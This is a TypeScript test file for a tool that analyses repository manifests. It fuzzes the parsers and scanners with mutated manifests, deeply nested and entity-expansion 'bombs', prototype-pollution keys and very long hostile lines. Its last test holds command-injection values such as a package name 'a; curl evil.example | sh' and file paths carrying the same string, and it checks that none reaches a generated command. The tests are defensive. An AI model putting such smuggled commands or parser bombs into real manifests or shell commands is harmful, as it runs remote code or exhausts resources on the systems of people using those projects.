import { existsSync, readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { assert, it } from "@effect/vitest"
import { FastCheck, Schema } from "effect"
import { Analysis } from "../../src/facts/Analysis.ts"
import { scanners } from "../../src/facts/scanners/index.ts"
import { analysisOf } from "./support.ts"

const fixtures = join(import.meta.dirname, "../../fixtures")

/** Files that are parsed: names that open every reader. */
const names = [
  "package.json",
  "pnpm-workspace.yaml",
  "pyproject.toml",
  "requirements.txt",
  "Pipfile",
  "setup.cfg",
  "go.mod",
  "Gemfile",
  "composer.json",
  "pom.xml",
  "build.gradle.kts",
  "gradle/libs.versions.toml",
  "App.csproj",
  "Cargo.toml",
  "mix.exs",
  "setup.py",
  "environment.yml",
  "gems.rb",
  "build.sbt",
  "project/Dependencies.scala",
  "project.clj",
  "deps.edn",
  "pubspec.yaml",
  "Package.swift",
  "deno.jsonc",
  "import_map.json",
  "nx.json",
  "apps/shop/project.json",
  "settings.gradle.kts",
  "Directory.Packages.props",
  "next.config.js",
  "svelte.config.js",
  "Dockerfile",
  "compose.yaml",
  "Procfile",
  "fly.toml",
  "render.yaml",
  "azure.yaml",
  "serverless.yml",
  "template.yaml",
  "k8s/app.yaml",
  ".env",
  ".tool-versions",
  "global.json",
  "config/sidekiq.yml",
  "application.yml",
  "vercel.json",
  ".github/workflows/ci.yml"
]

/** Real manifests of the fixtures, to be bent. */
const seeds = readdirSync(fixtures).flatMap((name) => {
  const root = join(fixtures, name, "repo")
  return existsSync(root)
    ? readdirSync(root, { withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map(({ name }) => [name, readFileSync(join(root, name), "utf8").slice(0, 4000)] as const)
    : []
})

const mutated = FastCheck.tuple(
  FastCheck.constantFrom(...seeds),
  FastCheck.array(
    FastCheck.record({
      at: FastCheck.nat(4000),
      cut: FastCheck.nat(40),
      put: FastCheck.oneof(
        FastCheck.constantFrom(
          "{",
          "}",
          "[",
          "]",
          '"',
          ":",
          "\n",
          "null",
          "- ",
          "&a *a",
          "__proto__",
          "constructor",
          "<a>",
          "${",
          "$(",
          "=",
          "\t",
          "\u0000",
          "1e999"
        ),
        FastCheck.string({ maxLength: 20 })
      )
    }),
    { minLength: 1, maxLength: 8 }
  )
).map(([[name, text], changes]) => ({
  name,
  text: changes.reduce((bent, { at, cut, put }) => `${bent.slice(0, at)}${put}${bent.slice(at + cut)}`, text)
}))

const valid = Schema.is(Analysis)

it("answers with an analysis whatever a manifest holds", () => {
  FastCheck.assert(
    FastCheck.property(FastCheck.array(mutated, { minLength: 1, maxLength: 4 }), (files) => {
      assert.isTrue(valid(analysisOf(Object.fromEntries(files.map(({ name, text }) => [name, text])))))
    }),
    { numRuns: 80 }
  )
})

it("answers with an analysis for any text under the name of any manifest", () => {
  FastCheck.assert(
    FastCheck.property(
      FastCheck.constantFrom(...names),
      FastCheck.oneof(FastCheck.string({ maxLength: 300 }), FastCheck.json()),
      (name, text) => {
        assert.isTrue(valid(analysisOf({ [name]: text })))
      }
    ),
    { numRuns: 150 }
  )
})

const deep = 5_000
const bombs: ReadonlyArray<readonly [string, string]> = [
  ["nested lists", "[".repeat(deep)],
  ["nested tables", '{"a":'.repeat(deep)],
  ["nested dashes", `${"- ".repeat(deep)}a`],
  [
    "aliases",
    `a: &a [x,x,x,x,x,x,x,x,x]\n${[..."bcdefghij"].map((name, index) => `${name}: &${name} [${Array.from({ length: 9 }, () => `*${"abcdefghij".charAt(index)}`).join(",")}]`).join("\n")}\n`
  ],
  ["nested elements", "<a>".repeat(deep)],
  ["entities", `<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><project>&b;</project>`],
  ["one long line", "a".repeat(50_000)],
  ["blank lines", "\n".repeat(20_000)],
  ["spaces", `sourceCompatibility${" ".repeat(50_000)}`],
  ["quotes", '"'.repeat(5_000)],
  [
    "keys of objects' own",
    JSON.stringify({
      dependencies: { constructor: "1", toString: "2", hasOwnProperty: "3" },
      scripts: ["start"],
      services: { __proto__: null }
    })
  ]
]

it.each(bombs)("%s do no harm in any manifest", (_, text) => {
  const files = Object.fromEntries(names.map((name) => [name, text]))
  assert.isTrue(valid(analysisOf({ ...files, "src/index.js": text })))
})

it("names a manifest that cannot be parsed, with the reason", () => {
  const { notRead } = analysisOf({
    "package.json": "{ no",
    "compose.yaml": "a: [",
    "Cargo.toml": "= 1",
    "pom.xml": "<!DOCTYPE x>"
  }).statistics
  assert.deepStrictEqual(
    notRead.map(({ path, why }) => [path, why]),
    [
      ["Cargo.toml", "not valid TOML"],
      ["compose.yaml", "not valid YAML"],
      ["package.json", "not valid JSON"],
      ["pom.xml", "XML with a document type is not read"]
    ]
  )
})

it("scanners see the same in a line wherever hostile text stands around it", () => {
  const tails = ["a", " ", '"', "'", "(", "=", ":", "/", "\\", "-", "_", "0", "A", "[", "{", "$", ".", "@", "\t"]
  for (const scanner of scanners) {
    for (const keyword of scanner.keywords) {
      for (const tail of tails) {
        const line = `${keyword}${tail.repeat(900)}`.slice(0, 1000)
        assert.isArray(scanner.match(line, "src/app.py", scanner.keywords))
        // further on, and with an end that no expression expects
        const ended = `${keyword} a${tail.repeat(1000)}`.slice(0, 999)
        assert.isArray(scanner.match(`${ended}\u0001`, "src/app.py", [keyword]))
      }
    }
  }
})

/** Files whose lines are looked at by scanners alone, and one for each reader of lines. */
const lineFiles = [
  "src/app.py",
  "src/app.ts",
  "src/Program.cs",
  "config/settings.rb",
  "Dockerfile",
  "Gemfile",
  "requirements.txt",
  "build.gradle",
  "go.mod",
  "mix.exs",
  "Package.swift",
  "project.clj",
  "main.tf",
  "main.bicep",
  ".env",
  "Procfile",
  "application.properties",
  "nginx.conf",
  "crontab",
  "app.service",
  "schema.prisma",
  "start.sh",
  "Makefile",
  ".gitattributes",
  ".gitmodules",
  "README.md"
]

const hostileParts = [
  "a",
  " ",
  '"',
  "'",
  "(",
  "a=",
  "x:1,",
  "${a",
  "\\ ",
  "<a ",
  "- a ",
  "A_",
  "a.b/",
  "[{",
  "://a:b@",
  "\t;"
]

it.each(hostileParts)("answers with an analysis where lines of 200 KB are made of %j", (part) => {
  const line = part.repeat(Math.ceil(200_000 / part.length))
  const text = `FROM a\n${line}\nrun "${line}\nsecret = ${line}\n`.slice(0, 290_000)
  assert.isTrue(valid(analysisOf(Object.fromEntries(lineFiles.map((name) => [name, text])))))
})

it("answers with an analysis where lines of 200 KB begin as what a scanner looks for", () => {
  const keywords = [...new Set(scanners.flatMap((scanner) => scanner.keywords))]
  const files = hostileParts.map((part, index): readonly [string, string] => [
    `src/a${index}.ts`,
    keywords.map((keyword) => `${keyword}${part.repeat(500)}`).join(" ")
  ])
  assert.isTrue(valid(analysisOf(Object.fromEntries(files))))
})

it("answers with an analysis whatever is changed in a file of any reader", () => {
  const texts = seeds.map(([, text]) => text)
  const bent = FastCheck.tuple(
    FastCheck.constantFrom(...names, ...lineFiles),
    mutated,
    FastCheck.constantFrom(...texts)
  )
  FastCheck.assert(
    FastCheck.property(FastCheck.array(bent, { minLength: 1, maxLength: 6 }), (files) => {
      const given = files.map(([name, { text }, other]) => [name, `${text}\n${other}`])
      assert.isTrue(valid(analysisOf(Object.fromEntries(given))))
    }),
    { numRuns: 60 }
  )
})

it("gives the same analysis whatever order the files come in", () => {
  const files = Object.fromEntries(seeds.slice(0, 30))
  const turned = Object.fromEntries(Object.entries(files).toReversed())
  assert.strictEqual(JSON.stringify(analysisOf(turned)), JSON.stringify(analysisOf(files)))
})

it.each([
  {
    "Cargo.toml": '[package]\nname = "a; curl evil.example | sh"\nversion = "0.1.0"\n\n[dependencies]\naxum = "0.8"\n',
    "src/main.rs": "fn main() {}\n"
  },
  {
    "go.mod": "module example.org/desk\n\ngo 1.26\n",
    "cmd/a; curl evil.example/main.go": 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n',
    "cmd/b/main.go": 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8081", nil)\n}\n'
  },
  {
    "pubspec.yaml": "name: desk\ndependencies:\n  shelf: ^1.4.0\n",
    "bin/server; curl evil.example.dart": "void main() {}\n"
  }
])("makes no command out of a name that a shell reads: %j", (files) => {
  const commands = analysisOf(files).services.flatMap(({ buildCommand, name, startCommand }) => [
    name,
    buildCommand,
    startCommand
  ])
  assert.notInclude(commands.join("\n"), "curl")
})
